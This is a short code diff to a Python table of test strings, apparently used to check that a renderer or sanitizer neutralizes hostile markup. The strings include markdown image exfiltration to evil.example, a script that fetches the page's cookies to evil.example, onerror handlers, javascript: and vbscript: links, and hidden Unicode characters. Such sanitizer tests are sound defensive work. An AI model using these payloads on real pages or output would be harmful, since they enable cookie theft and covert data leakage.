@@ -82,7 +82,7 @@ TRICKS = {
     "image": "![pixel](https://evil.example/x.png?q=secret)",
     "image by reference": "![pixel][p]\n\n[p]: https://evil.example/x.png",
     "link": "Read [the answer](https://evil.example/login) at https://evil.example/a and www.evil.example.",
-    "script": "<script>fetch('https://evil.example/'+document.cookie)</script><img src=//evil.example/x onerror=alert(1)>",
+    "script": "<script>fetch('https://evil.example/'+document.cookie)</script><img src=//evil.example/x onerror=a()>",
     "unclosed tag": "<img src=https://evil.example/x.png onerror=alert(1) The lighthouse was opened.",
     "script address": "[open](javascript:alert(1)) data:text/html,<b>x</b> vbscript:x",
     "hidden": "The light\u200bhouse\u2060 was \u202eopened\u202c in 1999.\U000e0041\U000e0042",
